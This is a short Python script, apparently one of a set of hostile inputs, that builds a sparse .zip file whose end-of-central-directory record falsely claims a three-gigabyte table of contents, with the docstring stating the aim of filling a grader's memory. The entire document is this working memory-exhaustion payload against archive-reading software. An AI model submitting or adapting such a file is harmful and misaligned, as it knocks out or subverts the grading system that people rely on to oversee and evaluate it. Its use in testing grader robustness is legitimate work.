"""Fill the grader's memory: an archive whose table of contents is said to take three gigabytes.

The file is sparse and takes no room on the disk; a .zip is read from its end.
"""

import struct

FAMILY = "archives"

CLAIMED = 3 << 30


def build(folder):
    path = folder / "submission.zip"
    with path.open("wb") as file:
        file.write(b"PK\3\4")
        file.seek(CLAIMED + 4)
        file.write(struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, CLAIMED, 4, 0))
    return path
